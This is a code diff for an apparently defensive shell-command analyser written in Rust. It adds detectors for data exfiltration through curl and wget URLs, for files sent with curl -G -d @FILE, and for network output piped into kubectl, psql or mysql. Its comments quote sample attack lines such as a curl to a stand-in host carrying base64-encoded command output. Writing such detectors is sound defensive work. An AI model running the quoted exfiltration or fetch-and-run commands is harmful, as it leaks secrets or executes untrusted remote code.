@@ -25,7 +25,15 @@ impl Shell<'_, '_> {
     ) {
         let Some(name) = line.models.first().and_then(|model| model.names.first()) else { return };
         match *name {
-            "curl" => self.connects_elsewhere(line),
+            "curl" => {
+                self.connects_elsewhere(line);
+                self.asks_with_data(line);
+                self.sends_files(line, context);
+            }
+            "wget" => self.asks_with_data(line),
+            "ansible" => self.ansible_module(line, context),
+            "kubectl" | "psql" | "mysql" => self.obeys_fetched_input(name, line, context),
+            "tmux" => self.types_lines(line),
             "mvn" | "gradle" => self.takes_from_elsewhere(line),
             "dropdb" => self.drops_its_own(line, context),
             "git" if line.sub_command() == "clean" => self.cleans_outside(line, context),
@@ -138,10 +146,104 @@ impl Shell<'_, '_> {
         for field in line.operands.iter().take(16) {
             let is_printed = |gap: &crate::word::Gap| gap.fill == Fill::Name;
             let is_below = field.word.known_part().trim_start_matches('.').contains('.');
-            if is_below && field.word.gaps().iter().any(is_printed) {
+            let is_made = field.word.gaps().iter().any(is_printed)
+                || field.word.misses_value() && self.encodes_in(&field.span);
+            if is_below && is_made {
                 let address = host::parse_host(&field.word, "");
                 self.connect(address, Purpose::Send, None, field.span.clone());
             }
+        }
+    }
+
+    /// Whether a command inside of these words makes letters of any data.
+    fn encodes_in(&self, span: &std::ops::Range<usize>) -> bool {
+        self.out.effects.all().iter().any(|effect| {
+            effect.at.span.start >= span.start
+                && effect.at.span.end <= span.end
+                && is_encoder(effect)
+        })
+    }
+
+    /// Whether a command since then makes letters of any data.
+    pub(crate) fn has_encoded(&self, before: usize) -> bool {
+        self.out.since(before).iter().any(is_encoder)
+    }
+
+    /// `curl "https://h.example/?d=$(… | base64)"`: the address carries what the command prints.
+    fn asks_with_data(&mut self, line: &Line<'_>) {
+        for field in line.operands.iter().take(16) {
+            if field.word.misses_value()
+                && field.word.known_start().contains("://")
+                && self.encodes_in(&field.span)
+            {
+                let address = host::parse_host(&field.word, "");
+                self.connect(address, Purpose::Send, None, field.span.clone());
+            }
+        }
+    }
+
+    /// `curl -G -d @FILE`, where a file becomes a part of the URL, and addresses that get the input.
+    fn sends_files(&mut self, line: &Line<'_>, context: &Context) {
+        let is_get = |given: &Given| matches!(given.spelling.as_str(), "-G" | "--get");
+        let is_data =
+            |given: &Given| matches!(given.spelling.as_str(), "-d" | "--data" | "--data-urlencode");
+        let is_file = |given: &Given| {
+            let value = given.values.first().map_or("", |value| value.word.known_start());
+            let name = value.split('@').next().unwrap_or_default();
+            is_data(given)
+                && name.len() < value.len()
+                && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+        };
+        let is_sent = line.flags.iter().any(is_get) && line.flags.iter().any(is_file);
+        for field in line.operands.iter().take(16) {
+            let start = field.word.known_start();
+            let takes_input = ["telnet://", "gopher://", "mqtt://", "dict://"]
+                .iter()
+                .any(|scheme| start.starts_with(scheme));
+            if is_sent || takes_input && context.input.is_some() {
+                let address = host::parse_host(&field.word, "");
+                self.connect(address, Purpose::Send, None, field.span.clone());
+            }
+        }
+    }
+
+    /// `curl URL | kubectl apply -f -`, `curl URL | psql`: what comes from the network is obeyed.
+    fn obeys_fetched_input(&mut self, name: &str, line: &Line<'_>, context: &Context) {
+        if !matches!(context.input.as_deref(), Some(Output::Network(_))) {
+            return;
+        }
+        let has = |spellings: &[&str], value: Option<&str>| {
+            line.flags.iter().any(|given| {
+                let given_value = given.values.first().and_then(Field::text);
+                spellings.contains(&given.spelling.as_str())
+                    && (value.is_none() || given_value == value)
+            })
+        };
+        let obeys = match name {
+            "kubectl" => has(&["-f", "--filename"], Some("-")),
+            _ => !has(&["-c", "--command", "-e", "--execute", "-f", "--file"], None),
+        };
+        if obeys {
+            self.opaque(Why::NetworkCode, Bound::ALL, context.span.clone());
+        }
+    }
+
+    /// `tmux send-keys 'LINE' Enter`: the names of keys are no part of the line.
+    fn types_lines(&mut self, line: &Line<'_>) {
+        if !line.models.last().is_some_and(|model| model.names.contains(&"send-keys")) {
+            return;
+        }
+        let is_key = |field: &&Field| {
+            field.text().is_some_and(|text| {
+                matches!(text, "Enter" | "KPEnter" | "Space" | "Escape")
+                    || text.len() == 3 && text.starts_with("C-")
+            })
+        };
+        if !line.operands.iter().any(|field| is_key(&field)) {
+            return;
+        }
+        for field in line.operands.iter().filter(|field| !is_key(field)).take(16) {
+            self.word_text(field);
         }
     }
 
@@ -262,4 +364,10 @@ fn is_private(host: &str) -> bool {
         std::net::IpAddr::V4(v4) => v4.is_loopback() || v4.is_private(),
         std::net::IpAddr::V6(v6) => v6.is_loopback(),
     }) || host == "localhost"
+}
+/// A command that makes letters of any data.
+fn is_encoder(effect: &crate::effect::Effect) -> bool {
+    let Action::Runs(run) = &effect.action else { return false };
+    let name = run.program.text().unwrap_or_default();
+    matches!(name, "base64" | "base32" | "basenc" | "xxd" | "od" | "hexdump" | "uuencode" | "gzip")
 }
